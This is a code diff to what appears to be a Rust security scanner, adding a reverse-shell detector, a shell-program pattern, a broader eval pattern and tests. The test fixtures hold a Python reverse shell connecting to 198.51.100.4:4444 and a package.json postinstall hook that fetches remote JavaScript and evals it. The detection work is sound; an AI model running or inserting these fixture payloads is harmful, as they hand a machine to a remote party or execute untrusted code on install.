@@ -214,7 +214,7 @@ pub(crate) fn check_flow(text: &Text, out: &mut Vec<Finding>) {
             flow.line(range.start + start, shell.as_deref().unwrap_or(&line), out);
         }
     }
-    if out.len() == before && text.kind == Kind::Script {
+    if out.len() == before && matches!(text.kind, Kind::Script | Kind::Data) {
         out.extend(code_built_in_a_downloading_script(text));
     }
     if out.len() == before && text.kind == Kind::Script {
@@ -223,7 +223,40 @@ pub(crate) fn check_flow(text: &Text, out: &mut Vec<Finding>) {
     if out.len() == before && text.kind == Kind::Script {
         out.extend(downloaded_program_started(text));
     }
+    if out.len() == before && text.kind == Kind::Script {
+        out.extend(shell_on_a_socket(text));
+    }
 }
+
+/// A program that connects a socket, puts it in place of its standard streams (`dup2`) and
+/// starts a shell: a reverse shell in Python, Perl, Ruby or C, written over several lines.
+fn shell_on_a_socket(text: &Text) -> Option<Finding> {
+    if !text.text.contains("dup2") || !SHELL_PROGRAM.is_match(text.text) {
+        return None;
+    }
+    let (start, line) = text.each_line().find(|(_, l)| {
+        let l = l.trim_start();
+        !l.starts_with(['#', '/']) && l.contains("connect") && names_an_outside_ip(l)
+            || RAW_SOCKET.is_match(l)
+    })?;
+    Some(text.finding(
+        &DOWNLOAD_EXEC_INSECURE,
+        Span::new(start, start + line.len()),
+        format!(
+            "opens a reverse shell: a socket put in place of a shell's input and output: `{}`",
+            excerpt(line)
+        ),
+        "a shell wired to a network connection hands the user's machine to whoever is at the \
+         other end",
+        "a skill never needs one; diagnose connections with `nc -z` or `curl -v`",
+    ))
+}
+
+/// An interactive shell started by path or name.
+static SHELL_PROGRAM: LazyLock<Pattern> = LazyLock::new(|| {
+    Pattern::new(r#"(?i)/bin/(?:ba|z|da|k)?sh(?-u:\b)|['"](?:ba|z)?sh['"][[:space:]]*,[[:space:]]*['"]-i['"]|cmd\.exe|powershell"#)
+        .expect("a valid shell-program pattern")
+});
 
 /// A program (in Go, Rust, Java, C#, or any language the line flow does not follow) that
 /// downloads from a host nobody vouches for, makes a file executable and starts a process:
@@ -385,10 +418,11 @@ fn takes_a_value(arguments: &str) -> bool {
     false
 }
 
-/// Calls that turn a string into code in the running program (not a shell's `eval`).
+/// Calls that turn a string into code in the running program (`eval(…)`, not a shell's
+/// `eval "$x"`).
 static DYNAMIC_CODE: LazyLock<Pattern> = LazyLock::new(|| {
     Pattern::new(
-        r"(?i)\[scriptblock\]::create\(|(?-u:\b)newscriptblock\(|new[[:space:]]+function[[:space:]]*\(|getprototypeof\([^\n]*function[^\n]*\)\.constructor\)?[[:space:]]*\(|(?-u:\b)vm\.run[a-z]*[[:space:]]*\(|(?:^|[^.[:word:]])(?:exec|execfile)[[:space:]]*\(|(?-u:\b)(?:instance_eval|class_eval|module_eval)[[:space:]]*\(?",
+        r"(?i)\[scriptblock\]::create\(|(?-u:\b)newscriptblock\(|new[[:space:]]+function[[:space:]]*\(|getprototypeof\([^\n]*function[^\n]*\)\.constructor\)?[[:space:]]*\(|(?-u:\b)vm\.run[a-z]*[[:space:]]*\(|(?:^|[^.[:word:]])(?:exec|execfile|eval)[[:space:]]*\(|(?-u:\b)(?:instance_eval|class_eval|module_eval)[[:space:]]*\(?",
     )
     .expect("a valid dynamic-code pattern")
 });
@@ -1204,6 +1238,7 @@ pub(super) fn compile() {
         &IPV4,
         &EXECUTABLE_MODE,
         &SPAWN,
+        &SHELL_PROGRAM,
     ] {
         LazyLock::force(pattern);
     }
@@ -1340,6 +1375,16 @@ mod tests {
         // Data fetched and a tool of the machine started, with nothing made executable.
         let data = "r, _ := http.Get(\"https://api.x.example/v1\")\nexec.Command(\"git\", \"status\").Run()\n";
         assert!(codes("tools/main.go", data).is_empty());
+    }
+
+    #[test]
+    fn a_socket_wired_to_a_shell_and_code_fetched_in_a_manifests_script_are_found() {
+        let py = "import socket, subprocess, os\ns = socket.socket()\ns.connect((\"198.51.100.4\", 4444))\nos.dup2(s.fileno(), 0)\nsubprocess.call([\"/bin/sh\", \"-i\"])\n";
+        assert_eq!(codes("scripts/r.py", py), ["SK901"]);
+        let daemon = "import os\nos.dup2(log.fileno(), 1)\nsubprocess.call([\"/bin/sh\", \"-c\", \"make\"])\n";
+        assert!(codes("scripts/d.py", daemon).is_empty());
+        let json = "{\"scripts\": {\"postinstall\": \"node -e \\\"require('https').get('https://n.x.example/p.js', r => { let d = ''; r.on('data', c => d += c); r.on('end', () => eval(d)) })\\\"\"}}\n";
+        assert_eq!(codes("package.json", json), ["SK920"]);
     }
 
     #[test]
